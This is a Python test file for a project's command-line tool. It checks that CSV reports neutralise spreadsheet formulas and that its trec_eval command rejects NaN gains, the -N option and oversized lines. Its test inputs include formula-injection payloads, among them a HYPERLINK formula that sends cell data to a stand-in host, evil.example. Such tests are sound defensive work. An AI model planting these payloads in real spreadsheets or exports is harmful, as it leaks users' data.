"""Spreadsheet formulas in the CSV files the project writes (issue 40, M6) and ``ultra trec_eval``'s NaN gains and
``-N`` (M12), through the real CLI."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tests.conftest import ROOT, run_ultra
from tests.support.background import Command, Finished, Prepare, in_background
from ultra_kit.files import CSV_FORMULA_STARTS, csv_cell, csv_text

QUESTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]


@pytest.mark.parametrize("start", CSV_FORMULA_STARTS)
def test_every_formula_start_is_neutralised_and_numbers_are_not(start: str) -> None:
    text = csv_text(["h", start + "head"], [[start + "cell", -0.5, 3, None]])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0][1] == "'" + start + "head" and rows[1][0] == "'" + start + "cell"
    assert rows[1][1:] == ["-0.5", "3", ""]  # a negative number is a number, not a formula
    assert csv_cell("plain") == "plain" and csv_cell(-1) == -1


def test_per_query_csv_neutralises_formulas_in_questions_and_answers(tmp_path: Path) -> None:
    n = len(QUESTIONS)
    evaluated = run_ultra("call", "evaluation.evaluate", f"pred_ls={json.dumps(QUESTIONS)}",
                          f"gt_ls={json.dumps(['x'] * n)}", "metrics=[em]", "save_path=output/eval.json",
                          cwd=tmp_path)  # fmt: skip
    assert evaluated.returncode == 0, evaluated.stderr
    result = json.loads(evaluated.stdout)["result_path"]
    reported = run_ultra("call", "report.report", f"result_path={result}", f"q_ls={json.dumps(QUESTIONS)}",
                         f"pred_ls={json.dumps(QUESTIONS)}", "out_dir=output/report", cwd=tmp_path)  # fmt: skip
    assert reported.returncode == 0, reported.stderr
    with (tmp_path / "output" / "report" / "per_query.csv").open(newline="") as handle:
        text = handle.read()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["question"] for row in rows] == ["'" + q for q in QUESTIONS]
    assert [row["answer"] for row in rows] == ["'" + q for q in QUESTIONS]
    assert all(not cell.startswith(CSV_FORMULA_STARTS) for row in rows for cell in row.values() if cell)


def test_trec_eval_refuses_a_nan_gain() -> None:
    done = run_ultra("trec_eval", "-m", "ndcg.1=nan", "data/trec/qrels.test", "data/trec/results.test", cwd=ROOT)
    assert done.returncode == 2 and done.stdout == "", done.stdout
    assert done.stderr == "error: parameters '1=nan' of ndcg: 'nan' is not a finite number\n"


def test_trec_eval_parses_minus_n_as_trec_eval_does() -> None:
    """``-N 1000 qrels run``: 1000 is -N's value (not the qrels file); -N itself is refused, clearly."""
    done = run_ultra("trec_eval", "-N", "1000", "data/trec/qrels.test", "data/trec/results.test", cwd=ROOT)
    assert done.returncode == 2 and "unrecognized arguments" not in done.stderr, done.stderr
    assert done.stderr.startswith("error: -N 1000: the number of documents in the collection is not supported")


def big_trec_eval(head: int, which: str) -> Prepare:
    """``ultra trec_eval`` on a 3 GB run or qrels of zero bytes after ``head`` good lines, written under ``folder``
    (sparse: no disk is used): a spare background run (tests/support/background.py)."""

    def prepare(folder: Path) -> Command:
        big = folder / "big.trec"
        good = (ROOT / "data/trec" / ("qrels.test" if which == "qrels" else "results.test")).read_text().splitlines()
        big.write_text("".join(line + "\n" for line in good[:head]))
        with big.open("r+b") as handle:
            handle.truncate(3 * 1024**3)
        files = [str(big), str(ROOT / "data/trec/results.test")] if which == "qrels" else [
            str(ROOT / "data/trec/qrels.test"), str(big)]  # fmt: skip
        return Command(("trec_eval", *files), timeout=120, cwd=folder)

    return prepare


BIG = [pytest.param(which, head, marks=in_background(big_trec_eval(head, which), spare=True), id=f"{which}-{head}")
       for which in ("qrels", "run") for head in (0, 100)]  # fmt: skip


@pytest.mark.parametrize(("which", "head"), BIG)
def test_trec_eval_on_a_3_gb_file_without_line_ends(background_run: Finished, head: int, which: str) -> None:
    """A 3 GB run or qrels of zero bytes (after ``head`` good lines, or none) was one line read whole, to a
    MemoryError traceback; now its first over-long line is named. The file is sparse: no disk is used."""
    big, done = background_run.folder / "big.trec", background_run.done
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert done.stderr.startswith(f"error: {big}:{head + 1}: a line longer than 1,048,576 bytes: not a {which} file")
